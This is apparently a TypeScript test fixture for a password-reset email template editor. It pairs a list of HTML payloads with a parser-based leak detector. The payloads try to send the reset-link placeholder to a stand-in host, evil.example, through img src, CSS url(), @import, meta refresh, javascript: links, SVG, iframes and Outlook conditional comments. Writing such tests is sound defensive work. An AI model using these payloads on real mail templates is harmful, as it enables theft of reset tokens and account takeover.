import { Parser } from 'htmlparser2';

/**
 * Ways to smuggle the reset link's placeholder into something a mail client loads or sends on its own.
 * `refused`: the save must answer 400 (the placeholder, as the server fills it, is in a bad place); the others
 * may be stored (the renderer never fills them, or the sanitiser drops them) but must still not leak.
 */
export type Smuggle = { name: string; html: string; refused: boolean };

const EVIL = 'https://evil.example';

export const SMUGGLES: Smuggle[] = [
  { name: 'img src with a prefix', html: `<img src="${EVIL}/x?t={{link}}">`, refused: true },
  { name: 'img src whole', html: '<img src="{{link}}">', refused: true },
  { name: 'img src unquoted, upper-case tag', html: `<IMG SRC=${EVIL}/x?t={{link}}>`, refused: true },
  { name: 'img src with spaces inside the braces', html: `<img src="${EVIL}/x?t={{ link }}">`, refused: true },
  { name: 'img src with new lines inside the braces', html: `<img src="${EVIL}/x?t={{\nlink\n}}">`, refused: true },
  { name: 'img src, braces as numeric entities', html: `<img src="${EVIL}/x?t=&#123;&#123;link&#125;&#125;">`, refused: true },
  { name: 'img src, braces as named entities', html: `<img src="${EVIL}/x?t=&lbrace;&lbrace;link&rbrace;&rbrace;">`, refused: true },
  { name: 'img src, braces percent-encoded', html: `<img src="${EVIL}/x?t=%7B%7Blink%7D%7D">`, refused: false },
  { name: 'img src, placeholder split by a tag', html: `<img src="${EVIL}/x?t={{li<b></b>nk}}">`, refused: false },
  { name: 'img srcset', html: `<img srcset="${EVIL}/{{link}} 1x">`, refused: true },
  { name: 'img alt', html: '<img alt="{{link}}">', refused: true },
  { name: 'a href with a prefix', html: `<a href="${EVIL}/?{{link}}">x</a>`, refused: true },
  { name: 'a href with a suffix', html: '<a href="{{link}}/../../x">x</a>', refused: true },
  { name: 'a href twice', html: '<a href="{{link}}{{link}}">x</a>', refused: true },
  { name: 'a href javascript:', html: `<a href="javascript:fetch('${EVIL}/'+'{{link}}')">x</a>`, refused: true },
  { name: 'a title', html: '<a href="{{link}}" title="{{link}}">x</a>', refused: true },
  { name: 'p title', html: '<p title="{{link}}">x</p>', refused: true },
  { name: 'data-* attribute', html: '<p data-reset="{{link}}">x</p>', refused: true },
  { name: 'style attribute url()', html: `<p style="background:url(${EVIL}/{{link}})">x</p>`, refused: true },
  { name: 'style attribute, text-align only', html: '<p style="text-align:{{link}}">x</p>', refused: true },
  { name: 'table background', html: `<table background="${EVIL}/{{link}}"><tr><td>x</td></tr></table>`, refused: true },
  { name: '<style> url()', html: `<style>p{background:url(${EVIL}/{{link}})}</style>`, refused: true },
  { name: '<style> @import', html: `<style>@import url("${EVIL}/{{link}}");</style>`, refused: true },
  { name: '<link> stylesheet', html: `<link rel="stylesheet" href="${EVIL}/{{link}}.css">`, refused: true },
  { name: 'meta refresh', html: `<meta http-equiv="refresh" content="0;url=${EVIL}/?{{link}}">`, refused: true },
  { name: 'SVG image href', html: `<svg><image href="${EVIL}/{{link}}"/></svg>`, refused: true },
  { name: 'SVG image xlink:href', html: `<svg><image xlink:href="${EVIL}/{{link}}"/></svg>`, refused: true },
  { name: 'iframe src', html: `<iframe src="${EVIL}/{{link}}"></iframe>`, refused: true },
  { name: 'video poster', html: `<video poster="${EVIL}/{{link}}"></video>`, refused: true },
  { name: 'form field value', html: `<form action="${EVIL}/"><input name="t" value="{{link}}"></form>`, refused: true },
  { name: 'comment', html: '<!-- {{link}} -->', refused: true },
  { name: 'Outlook conditional comment', html: `<!--[if mso]><img src="${EVIL}/{{link}}"><![endif]-->`, refused: true },
  { name: 'textarea', html: '<textarea>{{link}}</textarea>', refused: true },
  { name: 'upper-case placeholder', html: `<img src="${EVIL}/x?t={{LINK}}">`, refused: true },
  { name: 'text inside a link to another host', html: `<a href="${EVIL}/">{{link}}</a>`, refused: false },
  { name: 'base href', html: `<base href="${EVIL}/">`, refused: false },
];

const LOADS = new Set(['src', 'srcset', 'background', 'poster', 'data', 'action', 'formaction', 'xlink:href', 'lowsrc', 'dynsrc']);

/**
 * Every way `html` hands `token` to anything but the reader, or loads something from outside: judged by
 * parsing it as a mail client would. The token may be only the whole href of a link equal to `link`, or text.
 */
export function leaksIn(html: string, token: string, link: string): string[] {
  const found: string[] = [];
  const open: string[] = [];
  let allowed = 0;
  const parser = new Parser({
    onopentag(name, attributes) {
      open.push(name);
      if (name === 'link' || name === 'style' || name === 'meta' || name === 'base') found.push(`<${name}>`);
      for (const [attribute, value] of Object.entries(attributes)) {
        if (LOADS.has(attribute) && !/^data:image\/(png|jpeg|gif|webp)[;,]/i.test(value)) found.push(`${attribute}="${value}" on <${name}>`);
        if (/url\s*\(|@import|expression/i.test(value)) found.push(`${attribute}="${value}" on <${name}>`);
        if (!value.includes(token)) continue;
        if (name === 'a' && attribute === 'href' && value === link) allowed += 1;
        else found.push(`the token in ${attribute} of <${name}>`);
      }
    },
    onclosetag: () => void open.pop(),
    ontext(text) {
      if (!text.includes(token)) return;
      if (open.some((tag) => ['style', 'script', 'textarea', 'title'].includes(tag))) found.push(`the token in <${open.at(-1)}>`);
      else allowed += text.split(token).length - 1;
    },
    oncomment(text) {
      if (text.includes(token)) found.push('the token in a comment');
    },
  });
  parser.write(html);
  parser.end();
  // Anything the parser did not show (a processing instruction, a doctype...) still counts.
  const everywhere = html.split(token).length - 1;
  if (everywhere > allowed) found.push(`the token ${everywhere - allowed} more time(s) outside a link or text`);
  return found;
}
